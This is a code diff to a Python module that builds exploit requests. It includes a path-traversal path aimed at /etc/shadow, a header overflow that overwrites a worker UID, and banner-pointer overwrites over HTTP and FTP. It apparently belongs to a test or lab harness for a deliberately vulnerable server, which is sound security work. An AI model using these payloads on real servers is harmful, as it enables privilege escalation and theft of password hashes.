@@ -28,9 +28,9 @@ TRAVERSAL_DEPTH = 3
 DEFAULT_TARGET_FILE = "/etc/shadow"
 
 
-def traversal_path(target_file: str = DEFAULT_TARGET_FILE, depth: int = TRAVERSAL_DEPTH) -> str:
+def traversal_path(target_file: str = DEFAULT_TARGET_FILE) -> str:
     """A request path that escapes the docroot and reaches *target_file*."""
-    return "/" + "../" * depth + target_file.lstrip("/")
+    return "/" + "../" * TRAVERSAL_DEPTH + target_file.lstrip("/")
 
 
 @dataclasses.dataclass(frozen=True)
@@ -70,7 +70,6 @@ def uid_overwrite_payload(
     *,
     path: str | None = None,
     partial_bytes: int = 4,
-    extra_headers: dict[str, str] | None = None,
 ) -> bytes:
     """A request whose header overflow overwrites ``worker_uid`` with *uid*.
 
@@ -82,11 +81,10 @@ def uid_overwrite_payload(
     """
     spec = OverflowSpec(fields=(uid,), partial_bytes=partial_bytes)
     headers = {VULNERABLE_HEADER: spec.header_value()}
-    headers.update(extra_headers or {})
     return format_request(path or traversal_path(), headers=headers)
 
 
-def banner_pointer_payload(address: int, *, path: str = "/index.html") -> bytes:
+def banner_pointer_payload(address: int) -> bytes:
     """Overwrite the banner pointer with an absolute *address*.
 
     The filler preserves plausible values for the three UID/GID words it must
@@ -96,7 +94,7 @@ def banner_pointer_payload(address: int, *, path: str = "/index.html") -> bytes:
     variant, so the next banner dereference faults in the other.
     """
     spec = OverflowSpec(fields=(0, 0, 0, address))
-    return format_request(path, headers={VULNERABLE_HEADER: spec.header_value()})
+    return format_request("/index.html", headers={VULNERABLE_HEADER: spec.header_value()})
 
 
 def benign_request(path: str = "/index.html", annotation: str | None = None) -> bytes:
@@ -166,11 +164,11 @@ def ftp_uid_overwrite_payload(
     return ftp_conversation([path or traversal_path()], annotation=spec.header_value())
 
 
-def ftp_banner_pointer_payload(address: int, *, path: str = DEFAULT_FTP_PATH) -> bytes:
+def ftp_banner_pointer_payload(address: int) -> bytes:
     """An FTP conversation that overwrites the banner pointer with *address*.
 
     The following RETR dereferences the planted pointer (the ftpd's
     per-transfer banner touch), mirroring :func:`banner_pointer_payload`.
     """
     spec = OverflowSpec(fields=(0, 0, 0, address))
-    return ftp_conversation([path], annotation=spec.header_value())
+    return ftp_conversation([DEFAULT_FTP_PATH], annotation=spec.header_value())
